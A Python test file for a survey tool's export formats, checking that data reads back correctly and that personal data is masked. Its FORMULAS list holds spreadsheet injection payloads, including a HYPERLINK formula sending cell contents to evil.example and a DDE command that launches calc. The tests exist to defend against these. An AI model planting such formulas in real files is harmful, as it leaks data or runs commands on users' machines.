"""Exports: every format reads back in pandas and pyarrow with the database's values."""

import io
import json
import math
import re
import uuid
import zipfile

import numpy as np
import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.json as pajson
import pyarrow.parquet as pq
import pytest
import yaml

from sensemaker import db, fragments, intake, privacy, signification
from sensemaker.export import FORMATS, export, writers
from sensemaker.export import rows as export_rows
from sensemaker.export.columns import wide_layout
from sensemaker.generate import generate_fragments

SURVEY = "all_kinds"
ODD = 'Citat "så här", \\ bakstreck, \x00 noll, \x1f, \u2028 radbrytning,\r\n🙂 och, semikolon;'
PERSONAL = "Ring mig på 070-123 45 67 eller skriv till anna@example.se."
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1, "Klicka")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)


def store(database, survey, bodies):
    items = []
    for body in bodies:
        fragment = fragments.parse(body, survey)
        items.append((fragment, intake.prepare(fragment, survey, fragments.body_hash(body))))
    return db.insert_fragments(database, items)


def body(**fields) -> dict:
    return {
        "id": str(uuid.uuid4()),
        "language": "sv",
        "prompt": "good-day",
        "story": "Personalen tog sig tid.",
        "consent": True,
        "collected_at": "2026-11-20T09:30:00+01:00",
        "answers": {"role": "patient"},
        **fields,
    }


@pytest.fixture
def stored(database, all_kinds):
    return store_stories(database, all_kinds)


@pytest.fixture
def unmasked(stored):
    db.set_setting(stored, "export_mask_personal_data", "off")
    return stored


def store_stories(database, all_kinds):
    """60 generated stories and a few written ones with N/A, "other" and formulas."""
    batch = generate_fragments(all_kinds, 60, seed=3)
    db.insert_fragments(database, [
        (f, intake.prepare(f, all_kinds, fragments.body_hash(f.as_body())))
        for f in batch.fragments
    ])  # fmt: skip
    written = [
        body(
            answers={
                "role": "staff",
                "safety": "na",
                "pace": "na",
                "people": {},
                "life": {"health": "na", "home": 4},
                "topics": {"selected": ["other"], "other": FORMULAS[1]},
                "wish": FORMULAS[0],
            }
        ),  # fmt: skip
        body(
            title=FORMULAS[2],
            story=FORMULAS[3],
            language="en",
            prompt="hard-day",
            collected_at="2026-10-01T10:00:00+02:00",
        ),  # fmt: skip
        body(story=PERSONAL, answers={"role": "relative", "topics": ["sleep", "food"]}),
        body(story=ODD, title=None),
    ]
    assert store(database, all_kinds, written) == ["created"] * 4
    return database


def run_export(database, fmt, **options) -> tuple[bytes, object]:
    options.setdefault("actor", "analyst@region.se")
    result = export(database, SURVEY, fmt, **options)
    return b"".join(result.chunks), result


def from_db(database) -> pd.DataFrame:
    """The stored fragments as the test expects to see them, in seq order."""
    facts = db.fragment_facts(database, SURVEY, ("id", "language", "prompt", "collected_at"))
    return pd.DataFrame(facts)


def unprefixed(text):
    """A cell without the spreadsheet apostrophe (docs/exports.md says how)."""
    if isinstance(text, str) and text[:1] == "'" and text[1:2] in ("=", "+", "-", "@", "\t",
                                                                   "\r"):  # fmt: skip
        return text[1:]
    return text


def answers_from_wide(survey, row: dict) -> dict:
    """Rebuild a fragment's answers from one wide row: the mapping an importer needs."""

    def value(name):
        cell = row.get(name)
        return None if cell is None or isinstance(cell, float) and math.isnan(cell) else cell

    answers = {}
    for q in survey.questions.values():
        n = q.id
        if q.kind in ("triad", "dyad", "stones"):
            na = value(f"{n}__na")
            if na == 1:
                answers[n] = "na"
            elif na == 0 and q.kind == "triad":
                answers[n] = [value(f"{n}__{label['id']}") for label in q.raw["labels"]]
            elif na == 0 and q.kind == "dyad":
                answers[n] = value(f"{n}__x")
            elif na == 0:
                answers[n] = {
                    s["id"]: [value(f"{n}__{s['id']}__x"), value(f"{n}__{s['id']}__y")]
                    for s in q.raw["stones"]
                    if value(f"{n}__{s['id']}__x") is not None
                }
        elif q.kind == "star":
            ratings = {}
            for area in q.raw["areas"]:
                if value(f"{n}__{area['id']}__na") == 1:
                    ratings[area["id"]] = "na"
                elif value(f"{n}__{area['id']}") is not None:
                    ratings[area["id"]] = int(value(f"{n}__{area['id']}"))
            if ratings:
                answers[n] = ratings
        elif q.kind == "choice" and q.max == 1 and value(n) is not None:
            answers[n] = value(n)
        elif q.kind == "choice" and value(f"{n}__{q.option_ids[0]}") is not None:
            answers[n] = [o for o in q.option_ids if value(f"{n}__{o}") == 1]
        elif q.kind == "text" and value(n) is not None:
            answers[n] = unprefixed(value(n))
        if q.kind == "choice" and value(f"{n}__other_text") is not None:
            answers[n] = {"selected": answers[n], "other": unprefixed(value(f"{n}__other_text"))}
    return answers


# XLSX is XML, which cannot hold control characters: they are written as _xHHHH_, which
# Excel shows as the character and openpyxl leaves as it is.
XML_ESCAPE = re.compile(r"_x([0-9A-F]{4})_")


def _unescape(match) -> str:
    return chr(int(match.group(1), 16))


def assert_same_fragments(database, survey, frame: pd.DataFrame, exact=True):
    """Every exported row gives back the stored fragment: fields, texts and numbers.

    `exact=False` is for XLSX: the last of 17 digits may differ (it keeps 16, Excel
    uses 15) and control characters come escaped.
    """
    records = frame.to_dict("records")
    assert len(records) == db.count_fragments(database, SURVEY)
    for record in records:
        stored = db.get_fragment(database, record["fragment_id"])
        for field in ("language", "prompt", "collected_at", "received_at", "source"):
            assert record[field] == stored[field], field
        story = record["story"] if exact else XML_ESCAPE.sub(_unescape, record["story"])
        assert unprefixed(story) == stored["story"]
        title = record["title"] if isinstance(record["title"], str) else None
        assert unprefixed(title) == stored["title"]
        rebuilt = answers_from_wide(survey, record)
        numbers = signification.encode(survey, rebuilt)
        expected = signification.encode(survey, stored["answers"])
        if exact:
            assert numbers == expected, record["fragment_id"]
        else:
            np.testing.assert_allclose(np.frombuffer(numbers), np.frombuffer(expected),
                                       rtol=1e-15, atol=0)  # fmt: skip
        for question in ("wish", "topics"):
            if isinstance(stored["answers"].get(question), str | dict):
                assert rebuilt[question] == stored["answers"][question]


def test_csv_reads_back_in_pandas_with_the_stored_values(unmasked, all_kinds):
    data, result = run_export(unmasked, "csv")
    assert result.mimetype.startswith("text/csv") and result.filename.endswith(".csv")
    frame = pd.read_csv(io.BytesIO(data), keep_default_na=False, na_values=[""])
    assert list(frame.columns) == wide_layout(all_kinds).names
    assert_same_fragments(unmasked, all_kinds, frame)


def test_parquet_has_a_schema_dictionaries_and_the_stored_values(unmasked, all_kinds):
    data, _ = run_export(unmasked, "parquet")
    table = pq.read_table(io.BytesIO(data))
    assert table.schema.field("safety__staff").type == pa.float64()
    assert table.schema.field("safety__na").type == pa.int8()
    assert table.schema.field("life__home").type == pa.int32()
    assert pa.types.is_dictionary(table.schema.field("role").type)
    assert pa.types.is_dictionary(table.schema.field("language").type)
    codebook = json.loads(table.schema.metadata[b"sensemaker.codebook"])
    assert [c["name"] for c in codebook["columns"]] == table.schema.names
    assert_same_fragments(unmasked, all_kinds, table.to_pandas())
    assert_same_fragments(unmasked, all_kinds, pd.read_parquet(io.BytesIO(data)))


def test_json_lines_read_in_pandas_and_pyarrow(unmasked, all_kinds):
    data, result = run_export(unmasked, "json")
    assert result.filename.endswith(".jsonl")
    # pandas parses floats exactly only when asked to (precise_float).
    frame = pd.read_json(io.BytesIO(data), lines=True, dtype=False, precise_float=True)
    assert_same_fragments(unmasked, all_kinds, frame)
    table = pajson.read_json(io.BytesIO(data))
    assert table.num_rows == db.count_fragments(unmasked, SURVEY)


def test_swedish_excel_csv_has_bom_semicolons_and_decimal_comma(unmasked, all_kinds):
    data, result = run_export(unmasked, "csv-excel-sv")
    assert data.startswith(b"\xef\xbb\xbf") and result.filename.endswith(".sv.csv")
    header = data[3:].split(b"\n", 1)[0].decode()
    assert header.count(";") == len(wide_layout(all_kinds).names) - 1
    assert b"0," in data  # a share such as 0,25
    frame = pd.read_csv(io.BytesIO(data), sep=";", decimal=",", encoding="utf-8-sig",
                        keep_default_na=False, na_values=[""])  # fmt: skip
    assert frame["safety__staff"].dtype == np.float64
    assert_same_fragments(unmasked, all_kinds, frame)


def test_xlsx_opens_in_openpyxl_with_data_and_codebook(unmasked, all_kinds):
    data, result = run_export(unmasked, "xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    assert workbook.sheetnames == ["data", "codebook"]
    rows = list(workbook["data"].iter_rows(values_only=True))
    header, body_rows = list(rows[0]), rows[1:]
    assert header == wide_layout(all_kinds).names
    frame = pd.DataFrame([dict(zip(header, r, strict=True)) for r in body_rows])
    assert_same_fragments(unmasked, all_kinds, frame, exact=False)
    codebook = list(workbook["codebook"].iter_rows(values_only=True))
    assert [r[0] for r in codebook[1 : len(header) + 1]] == header
    workbook.close()


def test_zip_bundles_data_codebook_and_survey(unmasked, all_kinds):
    data, result = run_export(unmasked, "zip", lang="en")
    archive = zipfile.ZipFile(io.BytesIO(data))
    assert sorted(archive.namelist()) == ["codebook.json", "codebook.md", "data.csv",
                                          "survey.yaml"]  # fmt: skip
    assert yaml.safe_load(archive.read("survey.yaml")) == all_kinds.definition
    codebook = json.loads(archive.read("codebook.json"))
    assert codebook["rows"] == db.count_fragments(unmasked, SURVEY) == 64
    assert codebook["personal_data_masked"] is False
    markdown = archive.read("codebook.md").decode()
    assert "`safety__staff`" in markdown and "What gave a sense of safety?" in markdown
    assert "NOT masked" in markdown and "δ = 0.005" in markdown
    frame = pd.read_csv(archive.open("data.csv"), keep_default_na=False, na_values=[""])
    assert_same_fragments(unmasked, all_kinds, frame)


@pytest.mark.parametrize("fmt", ["csv", "csv-excel-sv", "xlsx", "zip"])
def test_formulas_are_neutralised_for_spreadsheets(stored, fmt):
    data, _ = run_export(stored, fmt)
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(data), read_only=True)["data"]
        cells = [c for row in sheet.iter_rows(values_only=True) for c in row]
    else:
        if fmt == "zip":
            data = zipfile.ZipFile(io.BytesIO(data)).read("data.csv")
        sep = ";" if fmt == "csv-excel-sv" else ","
        frame = pd.read_csv(io.BytesIO(data), sep=sep, encoding="utf-8-sig", dtype=str)
        cells = frame.to_numpy().ravel().tolist()
    texts = [c for c in cells if isinstance(c, str)]
    for payload in FORMULAS[:4]:
        assert "'" + payload in texts
        assert payload not in texts
    assert not any(t.startswith(("=", "+", "@", "\t", "\r")) for t in texts)


@pytest.mark.parametrize("fmt", ["parquet", "json"])
def test_typed_formats_keep_the_text_as_written(unmasked, fmt):
    data, _ = run_export(unmasked, fmt)
    if fmt == "parquet":
        frame = pd.read_parquet(io.BytesIO(data))
    else:
        frame = pd.read_json(io.BytesIO(data), lines=True, dtype=False, precise_float=True)
    assert FORMULAS[3] in frame["story"].tolist()
    assert FORMULAS[0] in frame["wish"].tolist()


def test_personal_data_is_masked_by_default_and_the_codebook_says_so(stored):
    data, result = run_export(stored, "csv")
    text = data.decode()
    assert "070-123 45 67" not in text and "anna@example.se" not in text
    assert privacy.mask(PERSONAL, lang="sv") in text
    assert result.codebook["personal_data_masked"] is True
    db.set_setting(stored, "export_mask_personal_data", "off")
    data, result = run_export(stored, "csv")
    assert "070-123 45 67" in data.decode() and result.codebook["personal_data_masked"] is False


def test_chunked_reading_gives_the_same_rows(stored, all_kinds):
    layout = wide_layout(all_kinds)
    small = list(export_rows.wide_batches(stored, layout, size=7))
    whole = list(export_rows.wide_batches(stored, layout, size=10_000))
    assert len(small) == 10 and len(whole) == 1
    # Each chunk has its own dictionaries, so compare the values.
    assert pa.Table.from_batches(small).to_pylist() == pa.Table.from_batches(whole).to_pylist()


def test_long_layout_is_the_wide_answers_melted(unmasked, all_kinds):
    wide, _ = run_export(unmasked, "parquet")
    long, result = run_export(unmasked, "parquet", layout="long")
    assert result.filename.endswith("-long.parquet")
    wide_frame, long_frame = pd.read_parquet(io.BytesIO(wide)), pd.read_parquet(io.BytesIO(long))
    assert list(long_frame.columns) == ["fragment_id", "question", "part", "value", "text"]
    answer_columns = [c for c in wide_layout(all_kinds).columns if c.question]
    assert len(long_frame) == int(wide_frame[[c.name for c in answer_columns]].notna().sum().sum())
    shares = long_frame[(long_frame.question == "safety") & (long_frame.part == "staff")]
    merged = shares.merge(wide_frame, on="fragment_id")
    assert (merged["value"] == merged["safety__staff"]).all()
    roles = long_frame[long_frame.question == "role"]
    assert roles["part"].isna().all() and set(roles["text"]) <= {"patient", "relative", "staff"}


def test_an_empty_selection_still_has_the_header(stored, all_kinds):
    data, result = run_export(stored, "csv", filters=["from=2099-01-01"])
    assert pd.read_csv(io.BytesIO(data)).columns.tolist() == wide_layout(all_kinds).names
    assert result.codebook["rows"] == 0
    data, _ = run_export(stored, "parquet", filters=["from=2099-01-01"])
    assert pq.read_table(io.BytesIO(data)).num_rows == 0


def test_every_format_is_offered(stored):
    for fmt in FORMATS:
        data, result = run_export(stored, fmt)
        assert data and result.filename.startswith(f"{SURVEY}-")


def test_xlsx_goes_on_to_further_sheets_past_the_row_limit(stored, monkeypatch):
    monkeypatch.setattr(writers, "XLSX_ROWS", 21)  # a header and 20 rows per sheet
    data, result = run_export(stored, "xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    assert workbook.sheetnames == ["data", "data2", "data3", "data4", "codebook"]
    counts = [len(list(workbook[name].iter_rows())) - 1 for name in workbook.sheetnames[:4]]
    assert counts == [20, 20, 20, 4] and sum(counts) == result.codebook["rows"]
    workbook.close()


def test_long_stories_make_smaller_chunks(database, all_kinds, monkeypatch):
    from sensemaker.db import export as db_export

    monkeypatch.setattr(db_export, "CHUNK_BYTES", 50_000)
    monkeypatch.setattr(db_export, "FIRST_CHUNK", 4)
    bodies = [body(story=f"{n} " + "lång berättelse " * 600) for n in range(30)]  # ~10 kB
    store(database, all_kinds, bodies)
    chunks = list(db.fragment_chunks(database, SURVEY, size=1000))
    counts = [chunk.count for chunk in chunks]
    assert counts[0] == 4 and sum(counts) == 30 and 2 <= max(counts[1:]) <= 5
    assert all(len(chunk.lines) <= 60_000 for chunk in chunks)
